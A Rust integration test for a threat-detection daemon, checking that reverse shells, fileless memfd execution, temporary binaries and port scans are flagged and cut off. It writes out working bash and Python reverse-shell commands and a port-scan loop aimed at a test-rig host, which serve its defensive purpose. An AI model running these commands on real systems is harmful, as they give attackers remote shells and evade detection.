// SPDX-License-Identifier: GPL-3.0-only
//! Attacks by real programs are named, and answered as the policy says; ordinary work is not.

mod history;
mod network;
mod ordinary;
mod programs;
mod scene;

use std::time::Duration;

use serde_json::Value;

use crate::support::Outcome;
use scene::{Fallible, Scene};

/// What ordinary machines do all day.
const ORDINARY: &str = "
    for n in 1 2 3; do curl -s -o /dev/null http://10.0.0.12/; done
    echo hello | sh -c 'cat | tr a-z A-Z' > /dev/null
    su app -c 'id; sh -c true'
    find /etc -name '*.conf' | xargs grep -l root | sort | head -n 3
    python3 -c 'import subprocess; subprocess.run([\"sh\", \"-c\", \"true\"])'
    timeout 1 bash -c 'exec 3<>/dev/tcp/10.0.0.12/80; printf \"GET / HTTP/1.0\\r\\n\\r\\n\" >&3; head -n 1 <&3'
    true";

/// Runs from memory: the file has no name in any directory.
const FROM_MEMORY: &str = "import os
fd = os.memfd_create('x')
os.write(fd, open('/usr/bin/true', 'rb').read())
os.execve(fd, ['x'], os.environ)";

/// A shell of another program's connection. Its peer says nothing, so that it waits.
const SHELL: &str = "import os, socket, subprocess
s = socket.create_connection(('10.0.0.12', 4444))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)
subprocess.call(['/bin/sh', '-c', 'read line; exit 7'])";

#[test]
#[ignore = "needs a rig: cargo xtask test"]
fn attacks_are_named_and_answered_and_ordinary_work_is_not() -> Outcome {
    let scene = Scene::begin()?;
    let mesh = &scene.mesh;
    assert!(scene.run(ORDINARY)?);
    // Beyond what looks at it again: the latest is a good half second after a connect.
    std::thread::sleep(Duration::from_secs(5));
    let threats = scene.threats("web1")?;
    let loud: Vec<&Value> = threats
        .iter()
        .filter(|threat| threat["severity"] == "alert")
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");

    scene.run(&format!("python3 -c \"{FROM_MEMORY}\""))?;
    scene.is_told("fileless-program", "memfd:x")?;
    scene.run("cp /usr/bin/true /tmp/true; /tmp/true; rm /tmp/true")?;
    scene.is_told("temporary-program", "/tmp/true")?;
    scene.run("for p in $(seq 30); do (echo > /dev/tcp/10.0.0.12/$p) 2> /dev/null; done; true")?;
    scene.is_told("port-scan", "/usr/bin/bash")?;

    // Seen and cut: what the program opened ends, by an ordinary policy.
    let listen = "timeout 300 nc -lk -p 4444 > /dev/null 2>&1 < /dev/null & sleep 1";
    mesh.0.check("db1", &["sh", "-c", listen])?;
    let answers = "policy: answers\nanswers: { web1: { reverse-shell: deny } }\n";
    let applied = mesh.apply_text(answers)?;
    assert!(applied.success(), "{applied:?}");
    let begun = "bash -c 'exec <> /dev/tcp/10.0.0.12/4444 >&0; read line; exit 7'";
    let cut = mesh.0.exec_timeout(
        "web1",
        &["timeout", "60", "bash", "-c", begun],
        Duration::from_secs(90),
    )?;
    assert_ne!(cut.status, 124, "its connection was not ended: {cut:?}");
    scene.is_told("reverse-shell", "/usr/bin/bash")?;
    let threat = scene.found("reverse-shell", "/usr/bin/bash")?.remove(0);
    let set = threat["answer"]
        .as_str()
        .and_then(|answer| answer.split("policy ").nth(1));
    let set = set.and_then(|rest| rest.split(' ').next()).ok_or("no answer")?;
    let since = |kind: &str, is: &dyn Fn(&Value) -> bool| -> Fallible<u64> {
        let event = scene.events(kind)?.into_iter().rfind(is).ok_or("no event")?;
        event["time_ns"].as_u64().ok_or_else(|| "no time".into())
    };
    let connected = since("connect", &|event| event["remote"] == "10.0.0.12:4444")?;
    let told = since("threat", &|event| event["threat"]["rule"] == "reverse-shell")?;
    println!(
        "told and cut {} ms after the connect",
        (told - connected) / 1_000_000
    );
    assert!(
        !scene.run("echo > /dev/tcp/10.0.0.12/80")?,
        "bash in web1 opens nothing more"
    );
    assert!(scene.run("curl -s -o /dev/null http://10.0.0.12/")?, "others do");
    for policy in [set, "answers"] {
        mesh.0.check("dom0", &["xmesh", "policy-delete", policy])?;
    }

    // A shell that is a child of who connected.
    scene.run(&format!("timeout 20 python3 -c \"{SHELL}\""))?;
    scene.is_told("reverse-shell", "/usr/bin/dash")?;

    // Who is caught goes on against a decoy: nobody serves there in dom0, and db1 answers.
    let answers = "policy: answers\nanswers: { web1: { temporary-program: { decoy: db1 } } }\n";
    let applied = mesh.apply_text(answers)?;
    assert!(applied.success(), "{applied:?}");
    let ask = "curl -s -o /dev/null -m 60 http://10.0.0.1/";
    assert!(!scene.run(ask)?, "nobody serves in dom0");
    scene.run(&format!(
        "cp /usr/bin/curl /tmp/lured; /tmp/{}",
        ask.replace("curl", "lured")
    ))?;
    scene.is_told("temporary-program", "/tmp/lured")?;
    mesh.wait("it reaches the decoy", |_| {
        scene.run(&format!("/tmp/{}", ask.replace("curl", "lured")))
    })?;
    assert!(!scene.run(ask)?, "others do not");
    let threat = scene.found("temporary-program", "/tmp/lured")?.remove(0);
    let answer = threat["answer"].as_str().unwrap_or_default();
    let set = answer
        .split("policy ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next());
    for policy in [set.ok_or("no answer")?, "answers"] {
        mesh.0.check("dom0", &["xmesh", "policy-delete", policy])?;
    }
    mesh.0.check("web1", &["rm", "/tmp/lured"])?;
    Ok(())
}

/// What is known of a program: when it was found first and last, and how often.
fn known(scene: &Scene, exe: &str) -> Fallible<[u64; 3]> {
    let argv = ["xmesh", "--json", "threats", "web1"];
    let list: Value = serde_json::from_slice(&scene.mesh.0.exec("dom0", &argv)?.stdout)?;
    let all = list["threats"].as_array().ok_or("no list")?;
    let threat = all.iter().find(|threat| threat["process"]["exe"] == exe);
    let threat = threat.ok_or_else(|| format!("{exe} is not known: {list}"))?;
    let number = |field: &str| threat[field].as_u64().ok_or("no number");
    Ok([number("first_ns")?, number("last_ns")?, number("count")?])
}

#[test]
#[ignore = "needs a rig: cargo xtask test"]
fn what_was_found_survives_the_daemon_and_is_not_told_again() -> Outcome {
    let scene = Scene::begin()?;
    let mesh = &scene.mesh;
    // A name of its own: what an earlier run left is known, too.
    let exe = format!("/tmp/known-{}", std::process::id());
    scene.must(&format!("cp /usr/bin/true {exe}; {exe}"))?;
    scene.is_told("temporary-program", &exe)?;
    let told = |scene: &Scene| -> Fallible<usize> {
        let events = scene.events("threat")?;
        Ok(events
            .iter()
            .filter(|e| e["threat"]["process"]["exe"] == *exe)
            .count())
    };
    assert_eq!(told(&scene)?, 1);
    let before = known(&scene, &exe)?;
    assert_eq!(before[2], 1);

    mesh.end()?;
    mesh.start()?;
    assert_eq!(known(&scene, &exe)?, before);
    scene.must(&exe)?;
    mesh.wait("it is seen again", |_| Ok(known(&scene, &exe)?[2] == 2))?;
    assert_eq!(told(&scene)?, 0, "this daemon's log has it");

    // As an end that nobody asked for: what is new is written at once.
    let other = format!("{exe}-other");
    scene.must(&format!("cp /usr/bin/true {other}; {other}"))?;
    scene.is_told("temporary-program", &other)?;
    std::thread::sleep(Duration::from_secs(3));
    mesh.0.check("dom0", &["kill", "-9", &mesh.daemon()?])?;
    mesh.start()?;
    assert_eq!(known(&scene, &exe)?[0], before[0]);
    assert_eq!(known(&scene, &other)?[2], 1);
    scene.must(&format!("{other}; rm {exe} {other}"))?;
    mesh.wait("it is seen again", |_| Ok(known(&scene, &other)?[2] == 2))?;
    assert_eq!(told(&scene)?, 0);
    Ok(())
}
